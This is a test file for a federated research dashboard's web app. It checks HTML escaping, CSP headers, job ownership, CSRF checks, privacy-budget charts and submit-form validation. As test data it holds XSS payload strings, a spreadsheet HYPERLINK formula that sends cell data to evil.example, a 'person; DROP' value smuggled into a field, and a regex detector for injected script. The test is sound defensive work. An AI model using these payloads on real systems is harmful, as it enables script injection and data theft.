import { describe, expect, it } from 'vitest';
import type { AgentListing } from '../coordinator/agent-registry.js';
import type { JobRecord } from '../coordinator/job-record.js';
import type { Principal } from '../coordinator/principal.js';
import { FedmeshError } from '../common/errors.js';
import { fakeBackend } from '../test/helpers/dashboard-backend.js';
import { createDashboardApp } from './app.js';
import { CsrfTokens, CSRF_FIELD } from './security.js';

const XSS_PRODUCT = '<script>alert("product")</script>';
const XSS_AGENT = 'site"><img src=x onerror=alert(1)>';
const XSS_GROUP = '<img src=x onerror=alert("group")>';
const XSS_CIRCE = '</pre><script>alert("circe")</script>';

/**
 * Markup an attacker would need to run script: a <script> that is not ours, an event-handler attribute, a
 * javascript: URL. Quoted attribute values are looked through (escaped text there is inert).
 */
function injected(body: string): string[] {
  const hits: string[] = [];
  for (const m of body.matchAll(/<script\b[^>]*>/gi)) if (m[0] !== '<script src="/static/dashboard.js" defer>') hits.push(m[0]);
  for (const m of body.matchAll(/<[a-zA-Z][^>]*>/g)) {
    const bare = m[0].replace(/"[^"]*"|'[^']*'/g, '""');
    if (/\son[a-z]+\s*=/i.test(bare)) hits.push(m[0]);
    if (/\s(href|src)\s*=\s*["']?\s*javascript:/i.test(m[0])) hits.push(m[0]);
  }
  return hits;
}

const agents: AgentListing[] = [
  { name: XSS_AGENT, domain: 'hospital-a', connected: true, connectedSinceMs: 1, lastHeartbeatMs: Date.now(), version: '0.1.0', policy: {} as AgentListing['policy'], products: [{ name: XSS_PRODUCT, columns: [{ name: 'year_of_birth', type: 'INTEGER' }], privacyUnit: 'person_id', description: '<b>bold</b>', metadata: { quality: { rowCount: '<100' } } }] },
];

function job(id: string, researcher: string): JobRecord {
  return {
    id, kind: 'aggregate', researcher, state: 'succeeded', createdAtMs: 1000, finishedAtMs: 2000, agentsAsked: ['a1'], agentsAnswered: ['a1'], agentsMissing: [], error: undefined,
    spec: { kind: 'aggregate', product: XSS_PRODUCT, groupBy: ['g'], measures: [{ fn: 'count' }], privacy: { mode: 'none' } } as unknown as JobRecord['spec'],
    result: { columns: ['g', 'count'], rows: [{ g: XSS_GROUP, count: 42 }, { g: 'b', count: 17 }], suppressed: [], privacy: { mode: 'none' }, notes: [`cohort ${XSS_CIRCE}`], agentErrors: {} },
  };
}

const users: Record<string, Principal> = {
  alice: { name: 'alice', isAdmin: false, authenticatedBy: 'certificate' },
  bob: { name: 'bob', isAdmin: false, authenticatedBy: 'certificate' },
  root: { name: 'root', isAdmin: true, authenticatedBy: 'certificate' },
};

function setup() {
  const backend = fakeBackend(agents, [job('alice-job', 'alice'), job('bob-job', 'bob')]);
  const csrf = new CsrfTokens();
  // Test identity: a header naming the user stands in for the client certificate the server reads from TLS.
  const app = createDashboardApp({ backend, csrf, identify: async (c) => {
    const u = users[c.req.header('x-test-user') ?? ''];
    if (!u) throw new FedmeshError('UNAUTHENTICATED', 'a researcher or administrator client certificate is required');
    return u;
  } });
  const get = (path: string, user = 'alice') => app.request(path, { headers: { 'x-test-user': user } });
  const post = (path: string, form: FormData, user = 'alice', headers: Record<string, string> = {}) => app.request(path, { method: 'POST', body: form, headers: { 'x-test-user': user, host: 'localhost', ...headers } });
  return { backend, csrf, app, get, post };
}

describe('the injection detector (negative control: it must catch what escaping prevents)', () => {
  it('flags raw script tags, event handlers and javascript: URLs, not our own script tag', () => {
    expect(injected(`<p>${XSS_PRODUCT}</p>`)).toHaveLength(1);
    expect(injected(`<td>${XSS_GROUP}</td>`)).toHaveLength(1);
    expect(injected('<a href="javascript:alert(1)">x</a>')).toHaveLength(1);
    expect(injected(`<tr data-agent="${XSS_AGENT}">`)).toHaveLength(1);
    expect(injected('<script src="/static/dashboard.js" defer></script><p>&lt;script&gt;</p><td title="&lt;img onerror=x&gt;">')).toEqual([]);
  });
});

describe('dashboard pages (in-process, fake backend)', () => {
  const pages = ['/', '/catalog', '/jobs', '/jobs/alice-job', '/charts', '/budget', '/submit'];

  it.each(pages)('%s renders with a strict CSP, escaped names and labelled navigation', async (path) => {
    const { get } = setup();
    const res = await get(path);
    const body = await res.text();
    expect(res.status, body.slice(0, 400)).toBe(200);
    const csp = res.headers.get('content-security-policy')!;
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toContain('unsafe-inline');
    expect(csp).toContain("frame-ancestors 'none'");
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    expect(injected(body)).toEqual([]);
    // No inline style either (the CSP would block it): the vega SVG uses presentation attributes only.
    expect(body).not.toMatch(/\sstyle\s*=/i);
    expect(body).toContain('<nav aria-label="Main">');
    expect(body).toMatch(/aria-current="page"|<h1>Job /);
  });

  it('shows the hostile names as text', async () => {
    const { get } = setup();
    expect(await (await get('/catalog')).text()).toContain('&lt;script&gt;alert(&quot;product&quot;)&lt;/script&gt;');
    const jobPage = await (await get('/jobs/alice-job')).text();
    expect(jobPage).toContain('&lt;img src=x onerror=alert(&quot;group&quot;)&gt;');
    expect(jobPage).toContain('&lt;/pre&gt;&lt;script&gt;alert(&quot;circe&quot;)&lt;/script&gt;');
    // The chart of the grouped count is there, drawn by vega, with the hostile group as escaped text only.
    expect(jobPage).toContain('data-chart="bars-count"');
  });

  it('refuses a request without an identity', async () => {
    const { app } = setup();
    const res = await app.request('/jobs');
    expect(res.status).toBe(401);
  });
});

describe('ownership: the same rule as GetJob', () => {
  it("a researcher never sees another's job: not in the list, and its page, downloads and events are 404 like an unknown id", async () => {
    const { get } = setup();
    const list = await (await get('/jobs')).text();
    expect(list).toContain('alice-job');
    expect(list).not.toContain('bob-job');
    const unknown = await get('/jobs/no-such-job');
    expect(unknown.status).toBe(404);
    for (const p of ['/jobs/bob-job', '/jobs/bob-job/result.csv', '/jobs/bob-job/result.json', '/jobs/bob-job/charts.json', '/jobs/bob-job/events']) {
      const res = await get(p);
      expect(res.status, p).toBe(404);
      expect(await res.text()).not.toContain('"count"');
    }
    expect((await get('/jobs/bob-job', 'bob')).status).toBe(200);
  });

  it('an administrator sees every job and the audit log; a researcher is refused the audit log', async () => {
    const { get } = setup();
    const list = await (await get('/jobs', 'root')).text();
    expect(list).toContain('alice-job');
    expect(list).toContain('bob-job');
    expect((await get('/audit', 'root')).status).toBe(200);
    expect((await get('/audit', 'alice')).status).toBe(403);
  });

  it('a train job page draws the global training curves and, when released, the per-agent ones', async () => {
    const { get, backend } = setup();
    const train = job('alice-train', 'alice');
    train.kind = 'train';
    train.result = { ...train.result!, columns: ['round', 'trainLoss'], rows: [{ round: 1, trainLoss: 0.7 }, { round: 2, trainLoss: 0.5 }], notes: [], summary: { perAgent: { [XSS_AGENT]: [{ round: 1, trainLoss: 0.8 }] } } };
    backend.jobs.push(train);
    const body = await (await get('/jobs/alice-train')).text();
    expect(body).toContain('data-chart="training"');
    expect(injected(body)).toEqual([]);
    const charts = JSON.parse(await (await get('/jobs/alice-train/charts.json')).text()) as { id: string; rows: { series: string }[] }[];
    expect(new Set(charts.find((c) => c.id === 'training')!.rows.map((r) => r.series))).toEqual(new Set(['train loss (global)', `train loss (${XSS_AGENT})`]));
  });

  it('the CSV download neutralises a formula in a group name (OWASP), the JSON keeps it as it was released', async () => {
    const { get, backend } = setup();
    const hostile = job('alice-formula', 'alice');
    hostile.result = { ...hostile.result!, rows: [{ g: '=HYPERLINK("https://evil.example/?"&A1,"x")', count: -3 }] };
    backend.jobs.push(hostile);
    const csv = await (await get('/jobs/alice-formula/result.csv')).text();
    expect(csv).toBe(`g,count\r\n"'=HYPERLINK(""https://evil.example/?""&A1,""x"")",-3\r\n`);
    const json = JSON.parse(await (await get('/jobs/alice-formula/result.json')).text());
    expect(json.rows[0].g).toBe('=HYPERLINK("https://evil.example/?"&A1,"x")');
  });

  it('CSV and JSON downloads hold the released table', async () => {
    const { get } = setup();
    const csv = await (await get('/jobs/alice-job/result.csv')).text();
    expect(csv.split('\r\n')[0]).toBe('g,count');
    expect(csv).toContain(',42');
    const json = JSON.parse(await (await get('/jobs/alice-job/result.json')).text());
    expect(json.rows).toEqual([{ g: XSS_GROUP, count: 42 }, { g: 'b', count: 17 }]);
    const charts = JSON.parse(await (await get('/jobs/alice-job/charts.json')).text());
    expect(charts[0].rows).toEqual([{ group: XSS_GROUP, value: 42 }, { group: 'b', value: 17 }]);
  });
});

describe('Budget: spend over time from the ledger', () => {
  const charge = (jobId: string, researcher: string, atMs: number, project?: string) => ({ jobId, researcher, population: 'person', products: [XSS_PRODUCT], rho: 0.045, epsilon: 0.3, delta: 0, state: 'committed' as const, atMs, project });

  it("draws only the caller's own charges, per population, product and project, with hostile names as text", async () => {
    const { get, backend } = setup();
    backend.charges.push(charge('a1', 'alice', 1000, 'P-1'), charge('b1', 'bob', 1500, 'P-bob'), charge('a2', 'alice', 2000));
    const page = await get('/budget');
    const body = await page.text();
    expect(page.status).toBe(200);
    expect(injected(body)).toEqual([]);
    for (const id of ['spend-population', 'spend-product', 'spend-project', 'spend-delta']) expect(body).toContain(`data-chart="${id}"`);
    const charts = JSON.parse(await (await get('/budget/charts.json')).text()) as { id: string; rows: { series: string; epsilon: number }[] }[];
    const byProject = charts.find((c) => c.id === 'spend-project')!;
    expect(byProject.rows.map((r) => r.series)).toEqual(['P-1']);
    expect(JSON.stringify(charts)).not.toContain('P-bob');
    // Pure ε charges compose to their sum: 0.3 then 0.6 on population person.
    expect(charts[0]!.rows.map((r) => r.epsilon)).toEqual([0.3, 0.6]);
    const admin = JSON.parse(await (await get('/budget/charts.json', 'root')).text()) as { rows: { series: string }[] }[];
    expect(new Set(admin[0]!.rows.map((r) => r.series))).toEqual(new Set(['alice · person', 'bob · person']));
  });

  it('says so when older charges are left out of the drawing', async () => {
    const backend = fakeBackend(agents, []);
    backend.charges.push(charge('a1', 'alice', 1000), charge('a2', 'alice', 2000), charge('a3', 'alice', 3000));
    const app = createDashboardApp({ backend, maxHistoryCharges: 2, identify: async () => users.alice! });
    const body = await (await app.request('/budget')).text();
    expect(body).toContain('Only the newest 2 charges are drawn');
    const rows = (JSON.parse(await (await app.request('/budget/charts.json')).text()) as { rows: { epsilon: number }[] }[])[0]!.rows;
    expect(rows).toHaveLength(2);
    // Negative control: with room for all three, nothing is left out.
    const all = createDashboardApp({ backend, maxHistoryCharges: 3, identify: async () => users.alice! });
    expect(await (await all.request('/budget')).text()).not.toContain('Only the newest');
  });

  it('says there is nothing to draw before the first DP charge', async () => {
    const { get } = setup();
    expect(await (await get('/budget')).text()).toContain('No DP job has been charged yet');
  });
});

describe('CSRF on every form', () => {
  const aggregateForm = (token?: string): FormData => {
    const f = new FormData();
    if (token !== undefined) f.set(CSRF_FIELD, token);
    f.set('kind', 'aggregate');
    f.set('product', 'person');
    f.set('count', '1');
    f.set('mode', 'none');
    f.set('action', 'submit');
    return f;
  };

  it('submits with the caller’s token from our own origin (positive control)', async () => {
    const { post, csrf, backend } = setup();
    const res = await post('/submit', aggregateForm(csrf.tokenFor(users.alice!)), 'alice', { origin: 'http://localhost', 'sec-fetch-site': 'same-origin' });
    expect(res.status).toBe(303);
    expect(res.headers.get('location')).toBe('/jobs/job-1');
    expect(backend.submitted).toHaveLength(1);
    expect(backend.submitted[0]!.spec).toEqual({ kind: 'aggregate', product: 'person', measures: [{ fn: 'count' }], privacy: { mode: 'none' } });
  });

  it.each([
    ['no token', undefined, {}],
    ['another user’s token', 'bob', {}],
    ['a forged token', 'forged', {}],
  ])('refuses a post with %s', async (_what, tokenOf, headers) => {
    const { post, csrf, backend } = setup();
    const token = tokenOf === undefined ? undefined : tokenOf === 'forged' ? 'A'.repeat(43) : csrf.tokenFor(users[tokenOf]!);
    const res = await post('/submit', aggregateForm(token), 'alice', headers);
    expect(res.status).toBe(403);
    expect(backend.submitted).toHaveLength(0);
  });

  it.each([
    [{ origin: 'https://evil.example' }],
    [{ 'sec-fetch-site': 'cross-site' }],
    [{ origin: 'null' }],
  ])('refuses a cross-site post even with a valid token: %o', async (headers) => {
    const { post, csrf, backend } = setup();
    const res = await post('/submit', aggregateForm(csrf.tokenFor(users.alice!)), 'alice', headers);
    expect(res.status).toBe(403);
    expect(backend.submitted).toHaveLength(0);
  });

  it('guards the confirm form too', async () => {
    const { post, backend } = setup();
    const f = new FormData();
    f.set('spec', JSON.stringify({ kind: 'aggregate' }));
    expect((await post('/submit/confirm', f)).status).toBe(403);
    expect(backend.submitted).toHaveLength(0);
  });
});

describe('Submit: the privacy cost before submitting', () => {
  it('previews a cohort from an uploaded Circe JSON with ρ converted to ε, escaping the Circe name', async () => {
    const { post, csrf, backend } = setup();
    const f = new FormData();
    f.set(CSRF_FIELD, csrf.tokenFor(users.alice!));
    f.set('kind', 'cohort');
    f.set('circe', new File([JSON.stringify({ Name: XSS_CIRCE, PrimaryCriteria: {} })], 'cohort.json', { type: 'application/json' }));
    f.set('mode', 'central-dp');
    f.set('rho', '0.05');
    f.set('action', 'preview');
    const res = await post('/submit', f);
    const body = await res.text();
    expect(res.status).toBe(200);
    expect(backend.submitted).toHaveLength(0);
    expect(injected(body)).toEqual([]);
    const eps = Number(/which is ε = ([\d.]+) at δ = 0\.000001/.exec(body.replace('1e-6', '0.000001'))?.[1]);
    // ρ-zCDP ⇒ (ρ + 2√(ρ ln 1/δ), δ)-DP (Bun & Steinke 2016, Prop. 1.3) is an upper bound; the CKS conversion is tighter.
    expect(eps).toBeGreaterThan(0.05);
    expect(eps).toBeLessThanOrEqual(0.05 + 2 * Math.sqrt(0.05 * Math.log(1e6)) + 1e-9);
    expect(body).toContain('Your remaining ε on population');
    expect(body).toContain('&lt;/pre&gt;&lt;script&gt;');
  });

  it.each([
    ['aggregate', { product: 'person', count: '1', groupBy: 'gender_concept_id', groupKeys: 'gender_concept_id=8507, 8532', mode: 'distributed-dp', rho: '0.1' }, { groupBy: ['gender_concept_id'], groupKeys: { gender_concept_id: [8507, 8532] } }],
    ['cohort', { mode: 'none' }, {}],
    ['survival', { mode: 'none' }, {}],
  ])('previews a secure %s (secagg): the spec asks for it and the page says what the coordinator sees', async (kind, fields, expected) => {
    const { post, csrf, backend } = setup();
    const f = new FormData();
    f.set(CSRF_FIELD, csrf.tokenFor(users.alice!));
    f.set('kind', kind);
    f.set('secure', 'secagg');
    for (const [k, v] of Object.entries(fields)) f.set(k, v);
    for (const up of ['circe', 'target']) f.set(up, new File([JSON.stringify({ PrimaryCriteria: {} })], 'c.json', { type: 'application/json' }));
    f.set('action', 'preview');
    const res = await post('/submit', f);
    const body = await res.text();
    expect(res.status, body.slice(0, 600)).toBe(200);
    expect(backend.submitted).toHaveLength(0);
    const spec = JSON.parse(/<pre id="spec-json">([\s\S]*?)<\/pre>/.exec(body)![1]!.replace(/&quot;/g, '"').replace(/&#39;/g, "'").replace(/&amp;/g, '&'));
    expect(spec).toMatchObject({ kind, secure: 'secagg', privacy: { mode: fields.mode }, ...expected });
    expect(body).toContain('id="secure-note"');
    expect(body).toContain('the coordinator sees only the sum over the agents');
  });

  it.each([
    [{ kind: 'aggregate', product: 'person', mode: 'central-dp' }, /epsilon: mode central-dp needs ε/],
    [{ kind: 'aggregate', product: 'person; DROP', count: '1', mode: 'none' }, /product: must be a column name/],
    [{ kind: 'aggregate', product: 'person', meanColumn: 'year_of_birth', mode: 'none' }, /meanLo: a mean needs public bounds/],
    [{ kind: 'cohort', mode: 'none' }, /circe: upload a Circe cohort definition/],
    [{ kind: 'survival', mode: 'none' }, /target: upload the target cohort/],
    [{ kind: 'train', mode: 'none' }, /kind: must be one of/],
    [{ kind: 'aggregate', product: 'person', count: '1', mode: 'none', secure: 'he' }, /secure: he needs a key pair made and kept on your own machine/],
    [{ kind: 'aggregate', product: 'person', count: '1', mode: 'central-dp', epsilon: '1', secure: 'secagg' }, /secure: secure aggregation works with privacy mode none or distributed-dp, not central-dp/],
    [{ kind: 'aggregate', product: 'person', count: '1', mode: 'distributed-dp', rho: '0.1' }, /mode: distributed-dp needs a secure sum/],
    [{ kind: 'aggregate', product: 'person', count: '1', mode: 'distributed-dp', epsilon: '1', secure: 'secagg' }, /delta: distributed-dp adds discrete Gaussian shares/],
    [{ kind: 'aggregate', product: 'person', count: '1', groupBy: 'g', mode: 'none', secure: 'secagg' }, /groupKeys: secure aggregation needs a fixed public layout/],
    [{ kind: 'aggregate', product: 'person', count: '1', groupBy: 'g', groupKeys: 'h=1,2', mode: 'none' }, /groupKeys: must be column=value/],
    [{ kind: 'aggregate', product: 'person', count: '1', mode: 'none', secure: 'paillier' }, /secure: must be empty, secagg or he/],
  ])('refuses a bad form naming the field: %o', async (fields, message) => {
    const { post, csrf, backend } = setup();
    const f = new FormData();
    f.set(CSRF_FIELD, csrf.tokenFor(users.alice!));
    for (const [k, v] of Object.entries(fields)) f.set(k, v);
    const res = await post('/submit', f);
    expect(res.status).toBe(400);
    expect(await res.text()).toMatch(message);
    expect(backend.submitted).toHaveLength(0);
  });
});
